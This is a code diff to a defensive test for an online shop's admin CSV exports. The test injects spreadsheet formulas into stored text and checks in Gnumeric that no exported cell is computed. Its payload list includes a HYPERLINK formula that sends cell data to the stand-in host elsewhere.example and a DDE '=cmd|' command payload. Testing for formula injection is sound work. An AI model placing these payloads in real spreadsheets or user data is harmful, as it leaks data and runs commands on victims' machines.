@@ -16,12 +16,12 @@ const formulas = [
   ...[`=HYPERLINK("https://elsewhere.example/?"&A1,"${mark}")`, `=cmd|'/C calc'!A1+${mark}`],
 ]
 
-/** Whatever may be typed begins as a formula would, and a program for spreadsheets opens each export in CSV: no cell of it reckons. */
+/** Every free text starts like a formula and a spreadsheet program opens each CSV export: no cell is computed. */
 export async function openExports({ databaseUrl }) {
   const programs = unpackPrograms('gnumeric')
   const folder = mkdtempSync(path.join(tmpdir(), 'thulir-exports-'))
   const shop = await openShop({ DATABASE_URL: databaseUrl })
-  const told = []
+  const results = []
   try {
     const written = await writeFormulas(databaseUrl)
     await shop.end('SIGTERM')
@@ -30,14 +30,14 @@ export async function openExports({ databaseUrl }) {
     await sleep(3000)
     await ordering.stop()
     const office = await openOffice(shop.origin, databaseUrl)
-    for (const { name, door, body } of tables()) {
+    for (const { name, route, body } of tables()) {
       const file = path.join(folder, `${name}.csv`)
-      writeFileSync(file, await office.takeExport(door, body))
-      told.push({ name, ...(await openInSpreadsheet(programs, file)) })
+      writeFileSync(file, await office.takeExport(route, body))
+      results.push({ name, ...(await openInSpreadsheet(programs, file)) })
     }
     return {
-      passed: told.every(({ formulas, texts }) => formulas === 0 && texts >= 10),
-      result: `${formulas.length} beginnings of a formula in ${written} columns; cells with one of them: ${told.map(({ name, texts, formulas }) => `${name} ${texts} texts, ${formulas} formulas`).join('; ')}`,
+      passed: results.every(({ formulas, texts }) => formulas === 0 && texts >= 10),
+      result: `${formulas.length} beginnings of a formula in ${written} columns; cells with one of them: ${results.map(({ name, texts, formulas }) => `${name} ${texts} texts, ${formulas} formulas`).join('; ')}`,
     }
   } finally {
     await shop.close()
@@ -50,20 +50,20 @@ function tables() {
   const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10)
   const sold = { from: today, to: today, form: 'csv' }
   return [
-    { name: 'products', door: '/api/admin/product-exports' },
-    { name: 'subscribers', door: '/api/admin/subscribers/export' },
-    { name: 'sales', door: '/api/admin/reports/sales-by-product/export', body: sold },
+    { name: 'products', route: '/api/admin/product-exports' },
+    { name: 'subscribers', route: '/api/admin/subscribers/export' },
+    { name: 'sales', route: '/api/admin/reports/sales-by-product/export', body: sold },
   ]
 }
 
-/** Into every text of products and their packs that may be anything, and into addresses of the newsletter; gives how many columns took one. */
+/** Writes formulas to every free text of products and their options, and to newsletter addresses; returns how many columns accepted one. */
 async function writeFormulas(databaseUrl) {
   const client = await connect(databaseUrl)
   const took = new Set()
   const write = (place, text, values) =>
     client.query(text, values).then(
       () => took.add(place),
-      () => {}, // A column that takes no such text needs no safeguard.
+      () => {}, // A column that rejects such text needs no protection.
     )
   for (const [table, key] of [
     ['product', 'id'],
@@ -94,13 +94,13 @@ async function writeFormulas(databaseUrl) {
 
 async function openOffice(origin, databaseUrl) {
   const headers = { cookie: await aStaffCookie(databaseUrl), origin, 'content-type': 'application/json' }
-  const takeExport = async (door, body = {}) => {
-    const reply = await fetch(origin + door, { method: 'POST', headers, body: JSON.stringify(body) })
-    if (!reply.ok) throw new Error(`${door}: ${reply.status} ${await reply.text()}`)
+  const takeExport = async (route, body = {}) => {
+    const reply = await fetch(origin + route, { method: 'POST', headers, body: JSON.stringify(body) })
+    if (!reply.ok) throw new Error(`${route}: ${reply.status} ${await reply.text()}`)
     const { jobId } = await reply.json()
     for (;;) {
       const [{ state, error }] = await ask(databaseUrl, 'select state, error from job where id = $1', [jobId])
-      if (state === 'failed') throw new Error(`${door}: ${error}`)
+      if (state === 'failed') throw new Error(`${route}: ${error}`)
       if (state === 'done') break
       await sleep(100)
     }
@@ -109,7 +109,7 @@ async function openOffice(origin, databaseUrl) {
   return { takeExport }
 }
 
-/** Gnumeric says of each cell what it is; one that is reckoned alone has no type of its own. */
+/** Gnumeric stores the type of each cell; only a computed cell has no type. */
 async function openInSpreadsheet({ folder, find, env }, file) {
   const part = (place) => path.join(folder, place, readdirSync(path.join(folder, place))[0])
   const opened = `${file}.gnumeric`
